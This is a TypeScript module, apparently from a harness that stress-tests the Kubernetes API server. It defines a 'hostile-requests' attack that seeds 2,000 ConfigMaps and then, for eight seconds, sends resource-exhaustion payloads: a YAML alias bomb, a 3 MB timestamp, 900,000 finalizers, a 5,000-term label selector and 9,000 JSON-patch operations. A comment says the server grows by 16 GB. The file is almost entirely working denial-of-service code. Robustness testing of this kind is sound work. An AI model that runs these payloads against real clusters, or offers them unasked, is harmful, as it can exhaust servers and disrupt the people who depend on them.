import type { Attack, AttackTarget } from './attack.ts';
import { CONFIG_MAPS, fill } from './objects.ts';
import { bearer, send, session } from './wire.ts';

const SECONDS = 8;

/** What once took seconds each. */
function requestsTo(target: AttackTarget): readonly (readonly [Record<string, string>, string?])[] {
  const post = (type: string): Record<string, string> => ({
    ...bearer(target),
    'content-type': type,
    ':method': 'POST',
    ':path': CONFIG_MAPS,
  });
  const terms = Array.from({ length: 5_000 }, (_unused, index) => `l${index}`).join(',');
  return [
    [post('application/yaml'), `a: &a "${'x'.repeat(200_000)}"\ndata:\n${'- *a\n'.repeat(20_000)}`],
    [post('application/json'), JSON.stringify({ metadata: { name: 'x', creationTimestamp: '1'.repeat(3_000_000) } })],
    [
      post('application/json'),
      JSON.stringify({ metadata: { name: 'x', finalizers: Array.from({ length: 900_000 }, () => '') } }),
    ],
    [{ ...bearer(target), ':path': `${CONFIG_MAPS}?labelSelector=${terms}` }],
    [
      {
        ...bearer(target),
        'content-type': 'application/json-patch+json',
        ':method': 'PATCH',
        ':path': `${CONFIG_MAPS}/filler-0`,
      },
      JSON.stringify(Array.from({ length: 9_000 }, () => ({ op: 'test', path: '/data/text', value: null }))),
    ],
  ];
}

export const attack: Attack = {
  name: 'hostile-requests',
  what: 'aliases that repeat text, a time of 3 MB, 900,000 finalizers, 5,000 terms of a selector over 2,000 objects, 9,000 patches',
  isForOursOnly: true, // kube-apiserver grows by 16 GB,
  async prepare(target) {
    const one = session(target);
    await fill(one, target, { count: 2_000, bytes: 100 });
    one.destroy();
  },
  async run(target, signal) {
    const over = session(target);
    const requests = requestsTo(target);
    const end = Date.now() + SECONDS * 1_000;
    const codes = new Map<number, number>();
    for (let index = 0; Date.now() < end && !signal.aborted; index++) {
      const [headers, body] = requests[index % requests.length] as (typeof requests)[number];
      const code = await send(over, headers, body);
      codes.set(code, (codes.get(code) ?? 0) + 1);
    }
    over.destroy();
    return [...codes].map(([code, count]) => `${count} × ${code}`).join(', ');
  },
};
